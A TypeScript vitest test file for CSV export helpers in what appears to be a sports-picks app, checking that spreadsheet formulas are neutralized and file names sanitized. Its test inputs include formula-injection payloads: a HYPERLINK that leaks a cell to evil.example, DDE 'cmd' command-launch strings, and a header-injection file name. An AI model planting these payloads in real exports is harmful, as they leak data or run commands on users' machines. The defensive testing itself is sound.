import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { csvCell, csvDocument, csvRow, exportFileName, neutralizeFormula } from './csv';

describe('neutralizeFormula', () => {
  it.each([
    // formula and DDE payloads
    [
      '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
      `'=HYPERLINK("http://evil.example/?leak="&A1,"Click")`,
    ],
    ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
    ["+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"],
    ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
    ["@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', "'\r=1+1"],
    ['-2.5 Bills', "'-2.5 Bills"],
    ['-', "'-"],
    // plain numbers read as numbers
    ['-2.5', '-2.5'],
    ['+7', '+7'],
    ['-110', '-110'],
    ['-.5', '-.5'],
    // ordinary text
    ['Bills -2.5', 'Bills -2.5'],
    ['Over 44.5', 'Over 44.5'],
    ['a=b', 'a=b'],
    ['', ''],
  ])('%j is written %j', (text, written) => {
    expect(neutralizeFormula(text)).toBe(written);
  });
});

describe('csvCell', () => {
  it.each([
    ['plain', 'plain'],
    ['a, b', '"a, b"'],
    ['say "hi"', '"say ""hi"""'],
    ['two\nlines', '"two\nlines"'],
    ['=1+1', "'=1+1"],
    ['=HYPERLINK("x","y")', `"'=HYPERLINK(""x"",""y"")"`],
    [-2.5, '-2.5'],
    [0, '0'],
    [true, 'true'],
    [null, ''],
    [undefined, ''],
    [new Date('2025-09-07T17:00:00Z'), '2025-09-07T17:00:00.000Z'],
  ])('%j is written %s', (value, written) => {
    expect(csvCell(value)).toBe(written);
  });
});

describe('csvDocument', () => {
  it('ends every line with CRLF', () => {
    expect(csvDocument(['Name', 'Points'], [['Ann', 12]])).toBe('Name,Points\r\nAnn,12\r\n');
    expect(csvRow([])).toBe('');
  });

  it('reads back, cell for cell, in an RFC 4180 parser', () => {
    const rows = [
      ['=HYPERLINK("http://evil.example","Click me")', 'Bills -2.5', -2.5],
      ['Ann, "the Oracle"', 'line\r\nbreak', '@me'],
    ];
    const parsed: string[][] = parse(csvDocument(['Member', 'Pick', 'Line'], rows));
    expect(parsed).toEqual([
      ['Member', 'Pick', 'Line'],
      [`'=HYPERLINK("http://evil.example","Click me")`, 'Bills -2.5', '-2.5'],
      ['Ann, "the Oracle"', 'line\r\nbreak', "'@me"],
    ]);
  });
});

describe('exportFileName', () => {
  it.each([
    ['Bills Fans!', 'standings week 3', 'bills-fans-standings-week-3.csv'],
    ['Café Crème', 'picks', 'cafe-creme-picks.csv'],
    ['"; filename=evil.exe', 'picks', 'filename-evil-exe-picks.csv'],
    ['🏈🏈', 'picks', 'group-picks.csv'],
    ['A'.repeat(50), 'standings', `${'a'.repeat(40)}-standings.csv`],
  ])('%s, %s: %s', (group, what, name) => {
    expect(exportFileName(group, what)).toBe(name);
  });
});
